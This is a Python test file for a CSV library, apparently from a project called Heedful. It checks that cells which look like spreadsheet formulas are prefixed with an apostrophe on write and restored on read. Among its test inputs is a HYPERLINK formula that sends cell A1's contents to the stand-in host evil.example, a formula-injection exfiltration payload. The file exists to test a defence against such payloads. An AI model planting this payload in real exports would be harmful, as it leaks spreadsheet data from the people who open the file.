"""Cells a spreadsheet would run as formulas are written with a leading apostrophe, and
every reader of Heedful's CSV files takes it off again, so no text is ever changed."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from heedful.lib.csvfile import neutralise_cell, read_csv, restore_cell, write_csv

HOSTILE_AND_TRICKY = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', True),
    ("+1 555 0100", True),
    ("-foo", True),
    ("@SUM(A1)", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("'=x", True),
    ("''=x", True),
    ("'Twas the night", False),
    ("-5.00", False),
    ("-12", False),
    ("2500.00", False),
    ("plain text", False),
    ("", False),
]

cell_text = st.text(alphabet=st.characters(codec="utf-8"))
formula_like = st.builds(
    lambda apostrophes, start, rest: "'" * apostrophes + start + rest,
    st.integers(min_value=0, max_value=3), st.sampled_from("=+-@\t\r'5 "), cell_text,
)


@pytest.mark.parametrize(("text", "is_changed"), HOSTILE_AND_TRICKY)
def test_formula_cells_get_one_apostrophe_and_numbers_stay_numbers(
    text: str, is_changed: bool
) -> None:
    # when
    written = neutralise_cell(text)
    # then
    assert written == ("'" + text if is_changed else text)
    assert restore_cell(written) == text


@pytest.mark.parametrize(("text", "_is_changed"), HOSTILE_AND_TRICKY)
def test_a_written_file_reads_back_the_exact_cells(
    text: str, _is_changed: bool, tmp_path: Path
) -> None:
    # given
    path = tmp_path / "cells.csv"
    write_csv(path, ["key", "value"], [["1", text]])
    # when
    table = read_csv(path)
    # then
    assert table.rows[0].cells == {"key": "1", "value": text}


def test_no_written_cell_starts_like_a_formula(tmp_path: Path) -> None:
    # given
    path = tmp_path / "cells.csv"
    write_csv(path, ["key", "value"], [[str(number), text] for number, (text, _) in enumerate(
        HOSTILE_AND_TRICKY
    )])
    # when
    written = path.read_bytes().decode("utf-8").split("\r\n")
    # then
    assert "1,'+1 555 0100" in written and "3,'@SUM(A1)" in written
    assert "6,''=x" in written and "7,'''=x" in written
    assert "8,'Twas the night" in written and "9,-5.00" in written


@settings(deadline=None)  # a loaded CI machine must not fail a correct example
@given(st.one_of(cell_text, formula_like))
def test_any_text_survives_neutralise_then_restore(text: str) -> None:
    assert restore_cell(neutralise_cell(text)) == text


@settings(deadline=None)  # a loaded CI machine must not fail a correct example
@given(st.one_of(cell_text, formula_like))
def test_a_neutralised_cell_never_starts_with_a_formula_character(text: str) -> None:
    written = neutralise_cell(text)
    is_negative_number = re.fullmatch(r"-\d+(\.\d+)?", written) is not None
    assert written[:1] not in set("=+-@\t\r") or is_negative_number


@settings(deadline=None)  # a loaded CI machine must not fail a correct example
@given(st.lists(st.one_of(cell_text, formula_like), min_size=1, max_size=4))
def test_any_row_survives_write_then_read(tmp_path_factory, cells: list[str]) -> None:  # noqa: ANN001
    # given
    path = tmp_path_factory.mktemp("round") / "cells.csv"
    header = ["key", *(f"column{number}" for number in range(len(cells)))]
    write_csv(path, header, [["1", *cells]])
    # when
    table = read_csv(path)
    # then
    assert table.header == header
    assert [table.rows[0].cells[name] for name in header[1:]] == cells
